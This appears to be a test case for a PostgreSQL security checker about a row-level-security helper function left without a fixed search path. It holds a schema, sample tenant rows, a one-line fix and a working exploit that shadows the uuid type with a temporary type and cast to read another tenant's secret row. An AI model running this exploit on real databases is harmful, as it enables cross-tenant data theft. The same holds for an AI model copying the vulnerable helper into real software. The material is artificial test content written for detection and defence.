-- What: The policies' helper says uuid, and has no search path of its own: a temporary type of that name is found before pg_catalog's.
-- Class: function_search_path
-- Object: public.get_current_tenant_id
-- Severity: advisory
-- Exploit: A type uuid of the attacker's own, with a cast from text that always gives tenant B.
-- Source: the helper as a school's management system documents it, and many after it
-- @schema
create function get_current_tenant_id() returns uuid language plpgsql stable as $$
declare
  tenant_str TEXT;
  tenant_uuid UUID;
begin
  tenant_str := current_setting('app.tenant_id', true);
  if tenant_str is null or tenant_str = '' then return null; end if;
  begin
    tenant_uuid := tenant_str::UUID;
    return tenant_uuid;
  exception when others then
    return null;
  end;
end $$;
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id = get_current_tenant_id()) with check (tenant_id = get_current_tenant_id());
grant select, insert, update, delete on items to app_user;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter function get_current_tenant_id() set search_path = pg_catalog, pg_temp;
-- @control
select from items where tenant_id = :'A';
-- @exploit
create type pg_temp.uuid as enum (:'B');
create function pg_temp.always(text) returns pg_temp.uuid language sql as $$ select enum_first(null::pg_temp.uuid) $$;
create cast (text as pg_temp.uuid) with function pg_temp.always(text);
select body from items where body = 'B-secret';
